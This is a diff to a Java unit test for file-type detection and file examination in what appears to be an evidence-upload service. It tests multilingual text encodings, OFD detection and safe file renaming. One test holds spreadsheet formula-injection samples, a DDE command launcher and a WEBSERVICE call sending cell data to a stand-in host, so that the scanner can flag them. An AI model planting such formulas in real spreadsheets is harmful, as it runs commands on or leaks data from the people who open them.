@@ -8,10 +8,16 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import io.redress.common.office.ForgedZip;
 import java.io.IOException;
+import java.nio.charset.Charset;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.util.Arrays;
 import java.util.LinkedHashMap;
+import java.util.List;
 import java.util.Map;
 import java.util.Random;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -52,11 +58,55 @@ class FileTypeTest {
                 "{\\rtf1 \\object}",
                 "GIF89a\u0001\0\u0001\0",
                 "\0\0\0\u0018ftypmif1\0\0\0\0mif1avif",
-                "plain words",
-                "x"
+                "plain words with a \u0001 control character",
+                "From: a@example.com\nSubject: a mail\nMessage-ID: <1@example.com>\nReceived: x\n\nwords"
             })
     void whatever_else_there_is_is_refused(String content) {
         assertThat(FileType.detect(text(content))).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"x", "日期,金额\r\n2019-05-20,50000.00\r\n", "\uFEFF聊天记录：\n\t什么时候兑付？", "一页\f又一页"})
+    void text_is_known_in_every_encoding_in_use(String words) {
+        for (var encoding : List.of("UTF-8", "GB18030", "UTF-16")) {
+            assertThat(FileType.detect(words.getBytes(Charset.forName(encoding))))
+                    .as(encoding)
+                    .contains(FileType.TEXT);
+        }
+        assertThat(FileName.safe("流水.csv", FileType.TEXT)).isEqualTo("流水.csv");
+        assertThat(FileName.safe("聊天记录", FileType.TEXT)).isEqualTo("聊天记录.txt");
+        assertThat(FileName.safe("run.bat", FileType.TEXT)).isEqualTo("run.txt");
+    }
+
+    @Test
+    void a_table_that_starts_a_program_or_asks_a_server_when_it_is_opened_says_so() {
+        assertThat(ExaminedFile.of(text("name,amount\n=cmd|' /C calc'!A0,1\n")).warnings())
+                .containsExactly(FileWarning.RUNS_PROGRAM);
+        assertThat(ExaminedFile.of(text("a;\"=WEBSERVICE(\"\"http://x/\"\"&A1)\"\n"))
+                        .warnings())
+                .containsExactly(FileWarning.EXTERNAL_CONTENT);
+        assertThat(ExaminedFile.of(text("a,b\n-5,+6\n见 a|b，很好!\n")).warnings()).isEmpty();
+    }
+
+    @Test
+    void an_ofd_document_is_known_by_its_root() throws IOException {
+        var root =
+                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" Version=\"1.0\"/>";
+        assertThat(FileType.detect(zip(Map.of("OFD.xml", text(root))))).contains(FileType.OFD);
+        assertThat(FileType.detect(zip(Map.of("OFD.xml", text("<OFD/>"))))).isEmpty();
+        assertThat(FileType.detect(zip(Map.of("Doc_0/OFD.xml", text(root))))).isEmpty();
+    }
+
+    @Test
+    void the_web_client_offers_the_kinds_that_are_taken() throws IOException {
+        var offered = Files.readString(Path.of("src/main/webui/src/features/registration/evidenceTypes.ts"));
+        assertThat(Pattern.compile("\\.([a-z]+)(?=[,'])")
+                        .matcher(offered)
+                        .results()
+                        .map(match -> match.group(1)))
+                .containsExactlyElementsOf(Stream.of(FileType.values())
+                        .flatMap(FileType::extensions)
+                        .toList());
     }
 
     @Test
